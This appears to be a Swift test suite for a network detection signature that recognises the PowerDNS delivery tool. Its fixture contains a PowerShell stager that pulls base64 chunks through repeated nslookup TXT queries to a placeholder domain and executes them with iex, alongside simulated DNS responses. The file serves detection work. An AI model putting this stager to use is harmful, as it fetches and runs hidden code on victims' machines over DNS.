import DNSWire
import Findings
import Signatures
import TestSupport
import Testing

/// The delivery tool PowerDNS by its stager.
@Suite struct PowerDNSSignatureTests {
    static let all = [
        delivery(
            "for ($i=1;$i -le 12;$i++){$b64+=iex(nslookup -q=txt -timeout=3 $i'.t.example.com')[-1]};iex($b64)"
        )
    ]

    private static func delivery(_ stager: String) -> ToolTraffic {
        var generator = SeededGenerator(seed: 1)
        var traffic = ToolTraffic(tool: "PowerDNS", kind: .infiltration)
        traffic.exchange("0", .txt, [.text(stager.utf8, timeToLive: 1)])
        for number in 1...12 {
            let chunk = TextEncoding.standardBase64.encode(generator.octets(187)).prefix(250)
            traffic.exchange("\(number)", .txt, [.text(chunk, timeToLive: 1)])
        }
        return traffic
    }

    @Test func recognizes() throws {
        let match = try #require(try Self.all[0].match(PowerDNSSignature()))
        #expect(match.tool.because.contains("frame 1 "))
        #expect(match.tool.because.contains("12 chunks"))
    }

    @Test(arguments: ["for ($i=1;$i -le 12;$i++){nslookup}", "iex(nslookup -q=txt for ($i=1;$i -le 12"])
    func rejects(stager: String) throws {
        #expect(try Self.delivery(stager).match(PowerDNSSignature()) == nil)
    }
}
